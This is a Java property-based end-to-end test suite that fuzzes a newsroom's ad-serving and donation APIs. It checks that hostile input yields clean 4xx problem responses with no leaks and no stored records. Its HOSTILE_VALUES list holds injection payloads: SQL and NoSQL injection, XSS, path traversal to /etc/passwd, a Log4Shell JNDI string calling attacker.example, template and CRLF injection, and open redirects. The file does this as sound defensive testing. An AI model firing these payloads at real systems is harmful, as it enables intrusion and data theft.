package org.newsroom.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import com.mongodb.client.MongoClient;
import com.mongodb.client.MongoClients;
import com.mongodb.client.MongoDatabase;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterProperty;
import net.jqwik.api.lifecycle.BeforeContainer;
import net.jqwik.api.lifecycle.BeforeProperty;
import org.bson.Document;
import org.newsroom.localstack.DemoIdentity;
import org.newsroom.localstack.LocalStack;
import tools.jackson.databind.json.JsonMapper;

/**
 * Random and hostile input at every public endpoint and every authenticated API (with a valid token of the right
 * role), through the gateway as the internet reaches it: never a 5xx, never a stack trace or an internal address,
 * every refusal an RFC 9457 problem detail, and nothing stored in either database.
 */
class BadInputSweepProperties {

    private static final HttpClient http = Reader.http;
    private static final JsonMapper json = Reader.json;
    /** What must never reach a caller: Java internals, stack frames, the machine's addresses. */
    private static final List<String> LEAKS = List.of("Exception", "\tat ", "at org.", "at java.", "java.lang",
            "springframework", "127.0.0.1", "localhost", "mongodb://", "stackTrace", "trace\"");

    private static LocalStack stack;
    private static Map<String, String> tokens;

    private Map<String, Long> storedBefore;

    @BeforeContainer
    static void startSuite() throws Exception {
        stack = SharedStack.get();
        tokens = Map.of(
                "ad-ops", DevLogin.clientCredentials(stack, DemoIdentity.AD_OPS_AUTOMATION_CLIENT),
                "advertiser", DevLogin.clientCredentials(stack, DemoIdentity.ADVERTISER_REPORTS_CLIENT),
                "finance", DevLogin.clientCredentials(stack, DemoIdentity.FINANCE_EXPORTS_CLIENT),
                "finance-admin", DevLogin.signIn(stack, DemoIdentity.FINANCE_ADMIN));
    }

    @BeforeProperty
    void countStoredRecords() {
        storedBefore = storedRecords();
    }

    @AfterProperty
    void nothingWasStored() {
        assertThat(storedRecords()).as("documents per collection").isEqualTo(storedBefore);
    }

    // ---- public endpoints ----------------------------------------------------------------------------------------

    @Property(tries = 150, shrinking = ShrinkingMode.OFF)
    void decisionsNeverFailOnWhateverAPageSends(@ForAll("hostileBodies") String body,
            @ForAll("hostileContentTypes") String contentType) throws Exception {
        HttpResponse<String> response = send("POST", "/api/ads/decisions", null, body, Map.of("Content-Type", contentType));
        assertClean(response, false);
    }

    @Property(tries = 150, shrinking = ShrinkingMode.OFF)
    void beaconsRefuseEveryForgedOrMangledToken(@ForAll("beaconKinds") String kind, @ForAll("forgedTokens") String token,
            @ForAll("methods") String method, @ForAll("hostileQueries") String extraQuery) throws Exception {
        String query = "t=" + encode(token) + (extraQuery.isEmpty() ? "" : "&" + extraQuery);
        HttpResponse<String> response = send(method, "/api/ads/" + kind + "?" + query, null, null, Map.of());
        assertClean(response, true);
        assertThat(response.headers().firstValue("Location")).as("a forged click redirects nowhere").isEmpty();
    }

    @Property(tries = 150, shrinking = ShrinkingMode.OFF)
    void checkoutsRefuseEveryInvalidRequest(@ForAll("invalidCheckouts") String body,
            @ForAll("idempotencyKeys") String idempotencyKey) throws Exception {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Content-Type", "application/json");
        headers.put("X-Forwarded-For", readerAddress(body + idempotencyKey)); // as many readers, not one bot
        if (!headerValue(idempotencyKey).isEmpty()) {
            headers.put("Idempotency-Key", headerValue(idempotencyKey));
        }
        assertClean(send("POST", "/api/donations/checkouts", null, body, headers), true);
    }

    @Property(tries = 150, shrinking = ShrinkingMode.OFF)
    void webhooksRefuseWhatStripeDidNotSign(@ForAll("hostileBodies") String body, @ForAll("signatures") String signature)
            throws Exception {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Content-Type", "application/json");
        if (!headerValue(signature).isEmpty()) {
            headers.put("Stripe-Signature", headerValue(signature));
        }
        assertClean(send("POST", "/api/donations/stripe/webhooks", null, body, headers), true);
    }

    @Property(tries = 150, shrinking = ShrinkingMode.OFF)
    void theTickerAndTheAppealAnswerAnyQuery(@ForAll("publicReads") String path, @ForAll("hostileQueries") String query,
            @ForAll("hostileLanguages") String acceptLanguage) throws Exception {
        String language = headerValue(acceptLanguage);
        assertClean(send("GET", path + (query.isEmpty() ? "" : "?" + query), null, null,
                language.isEmpty() ? Map.of() : Map.of("Accept-Language", language)), false);
    }

    @Property(tries = 100, shrinking = ShrinkingMode.OFF)
    void appealViewsRefuseInvalidBodies(@ForAll("structurallyInvalidBodies") String body) throws Exception {
        assertClean(send("POST", "/api/donations/epic/views", null, body, Map.of("Content-Type", "application/json")), true);
    }

    // ---- authenticated APIs, each with a valid token of its role --------------------------------------------------

    @Property(tries = 150, shrinking = ShrinkingMode.OFF)
    void reportsAnswerAnyQueryWithoutFailing(@ForAll("reportQueries") String query, @ForAll("reportReaders") String who,
            @ForAll("reportFormats") String accept) throws Exception {
        assertClean(send("GET", "/api/ads/reports?" + query, tokens.get(who), null, Map.of("Accept", accept)), false);
    }

    @Property(tries = 150, shrinking = ShrinkingMode.OFF)
    void inventoryWritesRefuseInvalidBodies(@ForAll("inventoryPaths") String path,
            @ForAll("invalidInventoryBodies") String body, @ForAll("writeMethods") String method) throws Exception {
        String target = method.equals("PUT") ? path + "/" + encode("no-such-" + Integer.toHexString(body.hashCode())) : path;
        assertClean(send(method, target, tokens.get("ad-ops"), body, Map.of("Content-Type", "application/json")), true);
    }

    @Property(tries = 150, shrinking = ShrinkingMode.OFF)
    void financeReadsAnswerAnyQueryWithoutFailing(@ForAll("financeReads") String path,
            @ForAll("hostileQueries") String query, @ForAll("financeFormats") String accept) throws Exception {
        assertClean(send("GET", path + (query.isEmpty() ? "" : "?" + query), tokens.get("finance"), null,
                Map.of("Accept", accept)), false);
    }

    @Property(tries = 100, shrinking = ShrinkingMode.OFF)
    void refundsRefuseInvalidRequests(@ForAll("invalidRefunds") String body, @ForAll("idempotencyKeys") String key)
            throws Exception {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Content-Type", "application/json");
        if (!headerValue(key).isEmpty()) {
            headers.put("Idempotency-Key", headerValue(key));
        }
        assertClean(send("POST", "/api/donations/finance/refunds", tokens.get("finance-admin"), body, headers), true);
    }

    // ---- what every answer must be -------------------------------------------------------------------------------

    /** What an HTTP client can put in a header at all: printable ASCII, no surrounding blanks. */
    private static String headerValue(String value) {
        return value.replaceAll("[^\\x20-\\x7e]", "").strip();
    }

    private static void assertClean(HttpResponse<String> response, boolean mustRefuse) {
        String what = response.request().method() + " " + response.request().uri() + " "
                + abbreviate(LAST_BODY.get()) + " -> " + response.statusCode() + " " + response.body();
        assertThat(response.statusCode()).as(what).isLessThan(500);
        if (mustRefuse) {
            assertThat(response.statusCode()).as(what).isBetween(400, 499);
        }
        if (response.statusCode() >= 400) {
            assertThat(response.headers().firstValue("Content-Type")).as(what).hasValue("application/problem+json");
            assertThat(response.body()).as(what).contains("\"status\":" + response.statusCode());
            for (String leak : LEAKS) {
                assertThat(response.body()).as(what).doesNotContain(leak);
            }
        }
    }

    /** The body last sent, to name it when an answer is wrong. */
    private static final ThreadLocal<String> LAST_BODY = new ThreadLocal<>();

    private static String abbreviate(String body) {
        return body == null ? "" : body.length() > 300 ? body.substring(0, 300) + "..." : body;
    }

    private static HttpResponse<String> send(String method, String pathAndQuery, String token, String body,
            Map<String, String> headers) throws Exception {
        LAST_BODY.set(body);
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(stack.settings().gatewayUrl() + pathAndQuery))
                .timeout(Duration.ofSeconds(30))
                .header("User-Agent", AdOpsApi.READER_UA)
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        headers.forEach(request::header);
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static Map<String, Long> storedRecords() {
        Map<String, Long> counts = new TreeMap<>();
        try (MongoClient mongo = MongoClients.create(stack.settings().mongoUri(""))) {
            for (String database : List.of("ads", "donations")) {
                MongoDatabase db = mongo.getDatabase(database);
                for (String collection : db.listCollectionNames()) {
                    counts.put(database + "." + collection, db.getCollection(collection).countDocuments());
                }
            }
        }
        return counts;
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    /** A documentation-range address (RFC 5737) per request, as the trusted load balancer states it. */
    private static String readerAddress(String seed) {
        int hash = seed.hashCode();
        return "198.51.100." + (Math.floorMod(hash, 254) + 1);
    }

    // ---- generators ----------------------------------------------------------------------------------------------

    private static final List<String> HOSTILE_VALUES = List.of("", " ", "null", "undefined", "-1", "0", "1e309", "NaN",
            "-9223372036854775809", "99999999999999999999999", "{\"$gt\":\"\"}", "{\"$where\":\"sleep(1000)\"}",
            "' OR '1'='1", "\"; DROP TABLE contributions; --", "<script>alert(1)</script>", "../../../../etc/passwd",
            "%00", "\u0000", "\uFEFF", "\u202Etxt.exe", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "#{7*7}",
            "javascript:alert(1)", "https://evil.example/", "//evil.example", "\r\nSet-Cookie: a=b", "9".repeat(500),
            "x".repeat(10_000), "🙂".repeat(50), "\\u0000", "true", "[]", "{}");

    private static Arbitrary<String> hostileValue() {
        return Arbitraries.oneOf(Arbitraries.of(HOSTILE_VALUES), Arbitraries.strings().all().ofMaxLength(60));
    }

    /** Random JSON values (objects with random keys, arrays, hostile strings, extreme numbers), as text. */
    private static Arbitrary<Object> jsonValue(int depth) {
        Arbitrary<Object> leaf = Arbitraries.oneOf(
                hostileValue().map(value -> (Object) value),
                Arbitraries.longs().map(value -> (Object) value),
                Arbitraries.doubles().map(value -> (Object) value),
                Arbitraries.of(true, false).map(value -> (Object) value),
                Arbitraries.just(null));
        if (depth == 0) {
            return leaf;
        }
        Arbitrary<Object> object = Arbitraries.maps(hostileValue(), jsonValue(depth - 1)).ofMaxSize(4)
                .map(map -> (Object) map);
        Arbitrary<Object> array = jsonValue(depth - 1).list().ofMaxSize(4).map(list -> (Object) list);
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(3, leaf), net.jqwik.api.Tuple.of(2, object),
                net.jqwik.api.Tuple.of(1, array));
    }

    private static String toJson(Object value) {
        return json.writeValueAsString(value);
    }

    @Provide
    Arbitrary<String> hostileBodies() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(300),
                Arbitraries.of(HOSTILE_VALUES),
                jsonValue(3).map(BadInputSweepProperties::toJson),
                Arbitraries.of("{", "{\"slots\":", "[[[[[[[[[[[[[[[[[[[[", "{\"a\":1,\"a\":2}", "{\"slots\":null}",
                        "{\"slots\":[{\"slot\":{\"$gt\":\"\"}}]}", "{\"slots\":[" + "{\"slot\":\"x\"},".repeat(500) + "{}]}"));
    }

    /** Bodies no endpoint accepts: not JSON, not an object, or an object with fields no request has. */
    @Provide
    Arbitrary<String> structurallyInvalidBodies() {
        Arbitrary<String> unknownFields = Arbitraries.maps(
                        Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(12).map(key -> "zz_" + key),
                        jsonValue(2)).ofMinSize(1).ofMaxSize(4)
                .map(BadInputSweepProperties::toJson);
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(200).map(text -> "\u0001" + text),
                Arbitraries.of("", "null", "[]", "[{}]", "42", "\"text\"", "{", "{\"name\":", "{\"name\":\"a\"" + ",".repeat(3)),
                jsonValue(2).list().ofMaxSize(3).map(BadInputSweepProperties::toJson),
                unknownFields);
    }

    @Provide
    Arbitrary<String> invalidCheckouts() {
        Map<String, List<Object>> invalid = new LinkedHashMap<>();
        invalid.put("amount", List.of(0, -100, 99, 1_000_000_001L, 1.5, "abc", true, List.of(), Map.of()));
        invalid.put("currency", List.of("", "XXX", "usdd", "JPY", 1, "<script>", List.of("usd")));
        invalid.put("frequency", List.of("weekly", "", 5, "ONE-OFF!", Map.of()));
        invalid.put("email", List.of("not-an-email", "a@", "@b.c", "x".repeat(300) + "@example.org", 7));
        invalid.put("returnUrl", List.of("javascript:alert(1)", "https://evil.example/", "", "//evil.example/x",
                "https://publisher.example@evil.example/", "x".repeat(3000), 3));
        invalid.put("context", List.of("string", List.of(), Map.of("country", "USA"), Map.of("pageUrl", "p".repeat(3000)),
                Map.of("variant", "v".repeat(100))));
        invalid.put("zz_unknown", List.of("anything", 1));
        Arbitrary<String> oneBadField = Arbitraries.of(new ArrayList<>(invalid.keySet())).flatMap(field ->
                Arbitraries.of(invalid.get(field)).map(value -> {
                    Map<String, Object> body = validCheckout();
                    body.put(field, value);
                    return toJson(body);
                }));
        Arbitrary<String> missingField = Arbitraries.of("amount", "currency", "frequency", "returnUrl").map(field -> {
            Map<String, Object> body = validCheckout();
            body.remove(field);
            return toJson(body);
        });
        return Arbitraries.oneOf(oneBadField, missingField, structurallyInvalidBodies());
    }

    private static Map<String, Object> validCheckout() {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("amount", 500);
        body.put("currency", "usd");
        body.put("frequency", "one_off");
        body.put("email", "reader@example.org");
        body.put("returnUrl", stack.settings().gatewayUrl() + "/article/syria");
        body.put("context", Map.of("pageUrl", stack.settings().gatewayUrl() + "/article/syria", "variant", "control",
                "country", "US"));
        return body;
    }

    /** Structurally invalid bodies, and a slot or campaign that would be valid but for one field. */
    @Provide
    Arbitrary<String> invalidInventoryBodies() {
        Map<String, List<Object>> slotFields = new LinkedHashMap<>();
        slotFields.put("key", List.of("", "UPPER CASE", "../x", "k".repeat(100), 5, List.of("a")));
        slotFields.put("name", List.of("", 7, List.of()));
        slotFields.put("sizes", List.of(List.of(), Arrays.asList((Object) null), List.of("7x"), List.of("300x"), "300x250",
                List.of(300)));
        slotFields.put("sections", Arrays.asList(Arrays.asList((Object) null), List.of("BAD SECTION"), "world", List.of(1)));
        Map<String, List<Object>> targetingFields = new LinkedHashMap<>();
        targetingFields.put("slots", List.of(Arrays.asList((Object) null), List.of(""), "banner-top"));
        targetingFields.put("sections", List.of(Arrays.asList((Object) null), List.of("Not A Label!")));
        targetingFields.put("countries", List.of(Arrays.asList((Object) null), List.of("usa"), List.of("U1")));
        targetingFields.put("hours", List.of(List.of(24), List.of(-1), Arrays.asList((Object) null)));
        targetingFields.put("devices", List.of(List.of("toaster"), Arrays.asList((Object) null)));
        targetingFields.put("timeZone", List.of("Mars/Olympus", "UTC+99", 3));
        Arbitrary<String> badSlot = Arbitraries.of(new ArrayList<>(slotFields.keySet())).flatMap(field ->
                Arbitraries.of(slotFields.get(field)).map(value -> {
                    Map<String, Object> body = new LinkedHashMap<>(Map.of("key", "sweep-slot", "name", "Sweep",
                            "sizes", List.of("300x250")));
                    body.put(field, value);
                    return toJson(body);
                }));
        Arbitrary<String> badTargeting = Arbitraries.of(new ArrayList<>(targetingFields.keySet())).flatMap(field ->
                Arbitraries.of(targetingFields.get(field)).map(value -> {
                    Map<String, Object> targeting = new LinkedHashMap<>();
                    targeting.put(field, value);
                    return toJson(Map.of("advertiserId", "adv_demo_meridian", "name", "Sweep", "status", "paused",
                            "startsAt", "2026-01-01T00:00:00Z", "endsAt", "2027-01-01T00:00:00Z", "tier", "standard",
                            "weight", 1, "cpm", Map.of("minorUnits", 100, "currency", "USD"), "targeting", targeting));
                }));
        return Arbitraries.oneOf(structurallyInvalidBodies(), badSlot, badTargeting);
    }

    @Provide
    Arbitrary<String> invalidRefunds() {
        Arbitrary<String> unknownContribution = Combinators.combine(
                hostileValue(),
                Arbitraries.oneOf(Arbitraries.longs().map(value -> (Object) value), Arbitraries.just(null),
                        hostileValue().map(value -> (Object) value)),
                Arbitraries.of("requested_by_customer", "duplicate", "fraudulent", "because", ""))
                .as((id, amount, reason) -> {
                    Map<String, Object> body = new LinkedHashMap<>();
                    body.put("contributionId", "no-such-" + id);
                    body.put("amount", amount);
                    body.put("reason", reason);
                    return toJson(body);
                });
        return Arbitraries.oneOf(unknownContribution, structurallyInvalidBodies());
    }

    @Provide
    Arbitrary<String> idempotencyKeys() {
        return Arbitraries.oneOf(Arbitraries.just(""), Arbitraries.strings().alpha().numeric().ofMinLength(8).ofMaxLength(64),
                Arbitraries.of("k".repeat(300), "../../x", "%00", "{\"$gt\":\"\"}", "key with spaces"));
    }

    @Provide
    Arbitrary<String> forgedTokens() {
        Arbitrary<String> base64 = Arbitraries.strings().withChars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
                .ofMinLength(10).ofMaxLength(200);
        return Arbitraries.oneOf(hostileValue(), base64,
                Combinators.combine(base64, base64).as((payload, signature) -> payload + "." + signature),
                Combinators.combine(base64, base64).as((payload, signature) -> "k1." + payload + "." + signature));
    }

    @Provide
    Arbitrary<String> signatures() {
        return Arbitraries.oneOf(Arbitraries.just(""), hostileValue(),
                Arbitraries.longs().between(0, 4_000_000_000L).map(t -> "t=" + t + ",v1=" + "0".repeat(64)),
                Arbitraries.strings().withChars("0123456789abcdef").ofLength(64)
                        .map(sig -> "t=" + System.currentTimeMillis() / 1000 + ",v1=" + sig));
    }

    @Provide
    Arbitrary<String> hostileQueries() {
        Arbitrary<String> pair = Combinators.combine(
                Arbitraries.oneOf(Arbitraries.of("from", "to", "tz", "limit", "cursor", "status", "currency", "variant",
                        "country", "granularity", "groupBy", "advertiserId", "experiment", "q"),
                        Arbitraries.strings().alpha().ofMaxLength(10)),
                hostileValue()).as((key, value) -> encode(key) + "=" + encode(value));
        return Arbitraries.oneOf(Arbitraries.just(""), pair.list().ofMinSize(1).ofMaxSize(5).map(pairs -> String.join("&", pairs)),
                Arbitraries.of("%25", "%25%25", "a=%25ZZ", "=&=&=", "from%5B%5D=1&from%5B%5D=2", "limit=1&limit=2"));
    }

    @Provide
    Arbitrary<String> reportQueries() {
        return hostileQueries();
    }

    @Provide
    Arbitrary<String> hostileContentTypes() {
        return Arbitraries.of("application/json", "text/plain", "application/x-www-form-urlencoded", "application/xml",
                "application/json; charset=ebcdic", "multipart/form-data; boundary=x", "*/*", "garbage");
    }

    @Provide
    Arbitrary<String> hostileLanguages() {
        return Arbitraries.oneOf(Arbitraries.of("en-GB", "", "*", "xx-ZZ", "en-US;q=2", "a".repeat(500), "de-DE,en;q=0.5"),
                Arbitraries.strings().ascii().ofMaxLength(40).map(text -> text.replaceAll("[\\r\\n\\x00-\\x1f\\x7f]", "")));
    }

    @Provide
    Arbitrary<String> beaconKinds() {
        return Arbitraries.of("i", "v", "c");
    }

    @Provide
    Arbitrary<String> methods() {
        return Arbitraries.of("GET", "POST");
    }

    @Provide
    Arbitrary<String> writeMethods() {
        return Arbitraries.of("POST", "PUT");
    }

    @Provide
    Arbitrary<String> publicReads() {
        return Arbitraries.of("/api/donations/ticker", "/api/donations/epic");
    }

    @Provide
    Arbitrary<String> reportReaders() {
        return Arbitraries.of("ad-ops", "advertiser");
    }

    @Provide
    Arbitrary<String> reportFormats() {
        return Arbitraries.of("application/json", "text/csv", "*/*", "application/xml", "image/png");
    }

    @Provide
    Arbitrary<String> financeFormats() {
        return Arbitraries.of("application/json", "text/csv", "*/*");
    }

    @Provide
    Arbitrary<String> inventoryPaths() {
        return Arbitraries.of("/api/ads/admin/slots", "/api/ads/admin/advertisers", "/api/ads/admin/campaigns",
                "/api/ads/admin/creatives");
    }

    @Provide
    Arbitrary<String> financeReads() {
        return Arbitraries.of("/api/donations/finance/contributions", "/api/donations/finance/totals",
                "/api/donations/finance/variants", "/api/donations/finance/payouts", "/api/donations/finance/refunds",
                "/api/donations/finance/disputes");
    }
}
